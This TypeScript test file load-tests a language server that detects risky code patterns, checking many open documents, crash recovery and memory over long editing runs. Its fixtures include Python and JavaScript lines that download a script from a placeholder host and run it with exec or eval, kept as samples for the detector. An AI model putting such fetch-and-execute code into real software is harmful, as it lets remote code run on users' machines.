/** The built server under load: thousands of open documents, a sudden end in the middle of work, and a day of editing. */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import type { Diagnostic } from 'vscode-languageserver/node';
import { Random } from '../fuzz/random.ts';
import { CACHED, CLEAN, ServerTests } from './lsp-server.ts';

const FOLDER = 'file:///project';
const EXEC = 'import requests\n\nexec(requests.get("https://example.com/a.py").text)\n';
const SCRIPT = 'const text = await (await fetch("https://example.com/a.js")).text();\neval(text);\n';

describe('language server under load', function () {
  this.timeout(120_000);
  const server = new ServerTests();

  const told = (diagnostics: readonly Diagnostic[]) => diagnostics.map(({ code }) => String(code));
  const uriOf = (index: number) => `${FOLDER}/${index % 20}/f${index}.${index % 5 === 4 ? 'ts' : 'py'}`;
  const textOf = (index: number) =>
    index % 5 === 4 ? SCRIPT : index % 3 === 0 ? CACHED : index % 3 === 1 ? EXEC : CLEAN;
  const rulesOf = (index: number) => {
    const text = textOf(index);
    return text === CLEAN ? [] : [text === CACHED ? 'unpinned-revision' : 'remote-exec'];
  };
  const open = (index: number) =>
    server.editor.open(uriOf(index), index % 5 === 4 ? 'typescript' : 'python', textOf(index));
  const isRight = async (index: number, version = 1) =>
    assert.deepEqual(
      told(await server.editor.diagnostics(uriOf(index), (it) => it.version === version)),
      rulesOf(index),
    );

  it('keeps 2,000 open documents right, and answers for the one that is typed in', async () => {
    await server.start();
    const all = Array.from({ length: 2_000 }, (_, index) => index);
    for (const index of all) await open(index);
    for (const index of all) await isRight(index);
    const before = server.editor.published.length;
    await server.editor.change(uriOf(7), 2, `x = 1\n${EXEC}`);
    const [finding] = await server.editor.diagnostics(uriOf(7), (it) => it.version === 2);
    assert.equal(finding!.range.start.line, 3);
    assert.equal(server.editor.published.length, before + 1, 'nobody else is checked for what is typed in one');
    const hover = await server.editor.hover(uriOf(7), finding!.range.start);
    assert.match(JSON.stringify(hover), /What to do/);
    for (const index of all) await server.editor.close(uriOf(index));
    await server.editor.until(() => {
      const last = new Map(server.editor.published.map(({ uri, diagnostics }) => [uri, diagnostics.length]));
      return [...last.values()].every((count) => count === 0) ? true : undefined;
    });
  });

  it('is as it was when it is killed in the middle of work and started again', async () => {
    const all = Array.from({ length: 150 }, (_, index) => index);
    for (let round = 0; round < 3; round++) {
      const editor = await server.start();
      const send = async (index: number) => {
        await open(index);
        await editor.change(uriOf(index), 2, `${CLEAN}${textOf(index)}`);
      };
      // Some of it is never sent, and nobody waits for these: their answers never come.
      const work = all.map((index) => send(index).catch(() => {}));
      void editor.codeActions(uriOf(0), WHOLE, { diagnostics: [] }).catch(() => {});
      void editor.hover(uriOf(1), WHOLE.start).catch(() => {});
      await Promise.all(work.slice(0, 50 * round));
      await editor.kill();
      await Promise.all(work);
    }
    // An editor opens everything again, as it is by now.
    await server.start();
    for (const index of all) await open(index);
    for (const index of all) await isRight(index);
  });

  it('needs no more memory after a day of editing than after its first hours', async () => {
    // A heap of this size is some times what the documents need; what was kept of each edit would not fit.
    const editor = await server.start({ environment: { NODE_OPTIONS: '--max-old-space-size=80' } });
    const random = new Random(20_261_121);
    const texts = new Map<number, string>();
    const versions = new Map<number, number>();
    const step = async () => {
      const index = random.int(40);
      const known = texts.get(index);
      if (known === undefined || random.once(25)) {
        if (known !== undefined) await editor.close(uriOf(index));
        texts.set(index, textOf(index).repeat(20));
        versions.set(index, 1);
        await editor.open(uriOf(index), index % 5 === 4 ? 'typescript' : 'python', texts.get(index)!);
        return;
      }
      const at = random.int(known.length);
      const put = random.pick(['x', '(', '"', '\n', ' ', 'exec(', '']);
      const text = known.slice(0, at) + put + known.slice(at + random.int(3));
      const version = versions.get(index)! + 1;
      texts.set(index, text.length > 20_000 ? textOf(index) : text);
      versions.set(index, version);
      await editor.change(uriOf(index), version, texts.get(index)!);
      if (random.once(10)) await editor.hover(uriOf(index), WHOLE.start);
      if (random.once(10)) await editor.codeActions(uriOf(index), WHOLE, { diagnostics: [] });
    };
    const settled = async () => {
      for (const index of texts.keys()) {
        await editor.diagnostics(uriOf(index), (it) => it.version === versions.get(index));
      }
      editor.published.splice(0, editor.published.length - 200);
      return residentMemory(editor.pid);
    };
    const measured: number[] = [];
    for (let hour = 0; hour < 8; hour++) {
      for (let edit = 0; edit < 500; edit++) await step();
      measured.push(await settled());
    }
    const [, first] = measured;
    const last = measured.at(-1)!;
    assert(last < first! * 1.35 + 20, `resident MB by hour: ${measured.map(Math.round).join(', ')}`);
  });
});

const WHOLE = { start: { line: 0, character: 0 }, end: { line: 99, character: 0 } };

/** Megabytes of a process, as its system counts them; 0 where there is no such program to ask. */
function residentMemory(pid: number): number {
  try {
    return Number(execFileSync('ps', ['-o', 'rss=', '-p', String(pid)], { encoding: 'utf8' })) / 1024;
  } catch {
    return 0;
  }
}
